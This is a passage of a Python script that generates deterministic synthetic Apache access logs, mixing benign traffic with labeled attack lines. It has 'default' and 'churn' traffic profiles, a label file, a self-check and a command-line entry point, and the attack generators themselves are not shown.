        return f"t={rng.choice(('devops', 'postgres', 'release', 'team', 'howto'))}"
    if path == "/blog/page":
        return f"p={rng.randint(2, 30)}"
    if path == "/go":
        return f"url=%2Fproducts%2Fview%3Fid%3D{rng.randint(1001, 1480)}"
    if path == "/img/resize":
        width = rng.choice((320, 640, 1280))
        return f"src=/static/img/products/p-{rng.randint(1001, 1008)}.jpg&w={width}"
    if path == "/track/pixel.gif":
        return f"e=view&sid={rng.getrandbits(48):012x}&t={rng.randint(0, 99_999)}"
    if path == "/api/v1/geo":
        return "ip=self"
    return f"v={rng.randint(1, 9)}"


def _benign(c: _Ctx, ip: str, path_idx: int) -> LogLine:
    r = c.rng
    path, size, _, kind = _PATHS[path_idx]
    agent = c.client_agent[ip]
    if kind == "asset":
        referer = f"{_SITE}/" if r.random() < 0.7 else f"{_SITE}/products"
    elif r.random() < 0.35:
        referer = r.choice(_EXTERNAL_REFERERS)
    elif r.random() < 0.6:
        referer = f"{_SITE}/"
    else:
        referer = "-"
    method = "GET"
    target = path
    u = r.random()
    if kind == "redirect":
        status, size = 301, r.choice((230, 238, 245))
    elif kind == "post":
        method, status = "POST", (200 if u < 0.97 else 500)
        size = size if size else 0
    else:
        if kind == "query":
            target = f"{path}?{_query(r, path)}"
        elif kind == "page" and path != "/" and u < 0.02:
            target = path + "/"  # trailing slash: Apache redirects
            status, size = 301, 244
            return LogLine(ip, method, target, status, size, agent, referer=referer)
        if kind == "asset" and u < 0.30:
            status, size = 304, 0
        elif u < 0.955:
            status = 200
            size = max(0, size + r.randint(-size // 50, size // 50)) if size else 0
        elif u < 0.998:
            status, size = 404, r.choice((196, 209, 1_245))
        else:
            status, size = 500, r.choice((531, 612))
        if r.random() < 0.02:
            method = "HEAD"
            size = 0
    return LogLine(ip, method, target, status, size, agent, referer=referer)


def generate(lines: int, seed: int) -> Iterator[tuple[LogLine, float, str | None]]:
    """Yield ``lines`` requests as (request, epoch seconds, attack kind or None), in file order.

    Multi-line attacks (scanner sweeps, 401 and 404 bursts) are scheduled a few lines apart so
    they interleave with benign traffic, as they would on a live server.
    """
    rng = random.Random(seed)
    ctx = _make_context(rng, n_clients=3_000)
    path_cum = list(itertools.accumulate(w for _, _, w, _ in _PATHS))
    path_idx = range(len(_PATHS))
    attack_names = [name for name, _, _ in _ATTACKS]
    attack_cum = list(itertools.accumulate(w for _, w, _ in _ATTACKS))
    attack_fns = {name: fn for name, _, fn in _ATTACKS}
    pending: list[tuple[int, int, LogLine, str]] = []  # (due line index, seq, line, kind)
    seq = itertools.count()
    now = float(_START_EPOCH)
    produced = 0
    while produced < lines:
        batch = min(_CHUNK, lines - produced)
        ips = rng.choices(ctx.clients, cum_weights=ctx.client_cum, k=batch)
        paths = rng.choices(path_idx, cum_weights=path_cum, k=batch)
        gaps = [rng.expovariate(1.0 / _MEAN_GAP_SECS) for _ in range(batch)]
        for i in range(batch):
            now += gaps[i]
            index = produced
            if pending and pending[0][0] <= index:
                _, _, line, kind = heapq.heappop(pending)
                yield line, now, kind
            elif rng.random() < _ATTACK_EVENT_RATE:
                kind = rng.choices(attack_names, cum_weights=attack_cum)[0]
                first, *rest = attack_fns[kind](ctx)
                due = index
                for extra in rest:
                    due += rng.randint(1, 6)
                    heapq.heappush(pending, (due, next(seq), extra, kind))
                yield first, now, kind
            else:
                yield _benign(ctx, ips[i], paths[i]), now, None
            produced += 1


class _Clock:
    """Formats epoch seconds as Apache's ``%t``, caching the current second."""

    def __init__(self) -> None:
        self._second = -1
        self._text = ""

    def format(self, epoch: float) -> str:
        second = int(epoch)
        if second != self._second:
            t = time.gmtime(second)
            self._second = second
            self._text = (
                f"[{t.tm_mday:02d}/{_MONTHS[t.tm_mon - 1]}/{t.tm_year}:"
                f"{t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d} +0000]"
            )
        return self._text


_CHURN_TEMPLATES = (
    "/products/view/{id}",
    "/api/v1/orders/{id}",
    "/user/{id}/profile",
    "/blog/2026/{id}-release-notes",
    "/static/img/products/p-{id}.jpg",
    "/api/v1/products/{id}/reviews",
    "/download/invoice-{id}.pdf",
    "/cart/item/{id}",
)
_CHURN_404_SHARE = 0.20


def _new_client(rng: random.Random) -> str:
    """A client address the log has almost surely not seen (about 8% IPv6)."""
    if rng.random() < 0.08:
        return f"2001:db8:{rng.getrandbits(16):x}:{rng.getrandbits(16):x}::{rng.getrandbits(16):x}"
    return (
        f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    )


def generate_churn(lines: int, seed: int) -> Iterator[tuple[LogLine, float, str | None]]:
    """The ``churn`` profile: nearly every benign line from a new client address, a distinct id
    in each path, 20% of the benign lines answered 404, about 1% attack lines (the same attack
    generators as the default profile). The shape that defeats per-value caches and makes
    per-client state grow."""
    rng = random.Random(seed)
    ctx = _make_context(rng, n_clients=3_000)
    attack_names = [name for name, _, _ in _ATTACKS]
    attack_cum = list(itertools.accumulate(w for _, w, _ in _ATTACKS))
    attack_fns = {name: fn for name, _, fn in _ATTACKS}
    pending: list[tuple[int, int, LogLine, str]] = []
    seq = itertools.count()
    now = float(_START_EPOCH)
    browsers = [a for a, _ in _BROWSERS]
    browser_w = [w for _, w in _BROWSERS]
    for index in range(lines):
        now += rng.expovariate(1.0 / _MEAN_GAP_SECS)
        if pending and pending[0][0] <= index:
            _, _, line, kind = heapq.heappop(pending)
            yield line, now, kind
            continue
        if rng.random() < _ATTACK_EVENT_RATE:
            kind = rng.choices(attack_names, cum_weights=attack_cum)[0]
            first, *rest = attack_fns[kind](ctx)
            due = index
            for extra in rest:
                due += rng.randint(1, 6)
                heapq.heappush(pending, (due, next(seq), extra, kind))
            yield first, now, kind
            continue
        target = rng.choice(_CHURN_TEMPLATES).format(id=rng.randrange(10_000, 100_000_000))
        if rng.random() < 0.25:
            target += f"?ref={rng.getrandbits(32):08x}&page={rng.randint(1, 40)}"
        missing = rng.random() < _CHURN_404_SHARE
        status, size = (404, rng.choice((196, 209))) if missing else (200, rng.randint(300, 90_000))
        referer = f"{_SITE}/" if rng.random() < 0.5 else rng.choice(_EXTERNAL_REFERERS)
        agent = rng.choices(browsers, browser_w)[0]
        yield (
            LogLine(_new_client(rng), "GET", target, status, size, agent, referer=referer),
            now,
            None,
        )


PROFILES = {"default": generate, "churn": generate_churn}


def write_log(
    out: TextIO,
    lines: int,
    seed: int,
    labels: TextIO | None = None,
    profile: str = "default",
) -> Counter[str]:
    """Write ``lines`` combined-format lines to ``out``; return the count of lines per attack kind.

    When ``labels`` is given, it receives one ``LINE<TAB>KIND`` row per attack line (1-based).
    ``profile`` picks the traffic shape (:data:`PROFILES`).
    """
    clock = _Clock()
    kinds: Counter[str] = Counter()
    buf: list[str] = []
    lines_of = PROFILES[profile]
    for number, (ln, epoch, kind) in enumerate(lines_of(lines, seed), start=1):
        size = str(ln.size) if ln.size else "-"
        buf.append(
            f'{ln.ip} - {ln.user} {clock.format(epoch)} "{ln.method} {ln.target} {ln.protocol}" '
            f'{ln.status} {size} "{ln.referer}" "{ln.agent}"\n'
        )
        if kind is not None:
            kinds[kind] += 1
            if labels is not None:
                labels.write(f"{number}\t{kind}\n")
        if len(buf) >= _CHUNK:
            out.write("".join(buf))
            buf.clear()
    out.write("".join(buf))
    return kinds


def _self_check(seed: int) -> bool:
    """Generate a short sample twice and compare; True when both are byte-identical."""
    first, second = io.StringIO(), io.StringIO()
    write_log(first, 20_000, seed)
    write_log(second, 20_000, seed)
    return first.getvalue() == second.getvalue()


def file_sha256(path: Path) -> str:
    """The SHA-256 of a (possibly large) file, read in 1 MiB blocks."""
    digest = hashlib.sha256()
    with path.open("rb") as fh:
        for block in iter(lambda: fh.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()


def main(argv: list[str] | None = None) -> int:
    """Command-line entry point; returns the exit status."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path, help="file to write (overwritten)")
    parser.add_argument("--lines", type=int, default=1_000_000, help="lines to write (1000000)")
    parser.add_argument("--seed", type=int, default=1, help="random seed (1)")
    parser.add_argument("--labels", type=Path, help="also write LINE<TAB>KIND for attack lines")
    parser.add_argument(
        "--self-check", action="store_true", help="first prove determinism on a 20k-line sample"
    )
    parser.add_argument("-q", "--quiet", action="store_true", help="print only the SHA-256")
    parser.add_argument(
        "--profile",
        choices=sorted(PROFILES),
        default="default",
        help="traffic shape: default (returning clients, repeated paths) or churn (a new client "
        "and a distinct id on nearly every line, 20%% 404s)",
    )
    args = parser.parse_args(argv)
    if args.lines < 1:
        parser.error("--lines must be at least 1")

    if args.self_check:
        if not _self_check(args.seed):
            print("self-check FAILED: same seed gave different output", file=sys.stderr)
            return 1
        if not args.quiet:
            print("self-check: same seed -> byte-identical 20000-line sample", file=sys.stderr)

    started = time.perf_counter()
    labels = args.labels.open("w", encoding="ascii", newline="\n") if args.labels else None
    try:
        with args.out.open("w", encoding="ascii", newline="\n") as out:
            kinds = write_log(out, args.lines, args.seed, labels, args.profile)
    finally:
        if labels is not None:
            labels.close()
    elapsed = time.perf_counter() - started

    digest = file_sha256(args.out)
    if args.quiet:
        print(digest)
        return 0
    attack_lines = sum(kinds.values())
    print(f"wrote {args.lines} lines to {args.out} in {elapsed:.1f}s (seed {args.seed})")
    print(f"attack lines: {attack_lines} ({100.0 * attack_lines / args.lines:.2f}%)")
    for kind, count in sorted(kinds.items(), key=lambda kv: (-kv[1], kv[0])):
        print(f"  {kind:<18} {count}")
    print(f"sha256 {digest}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
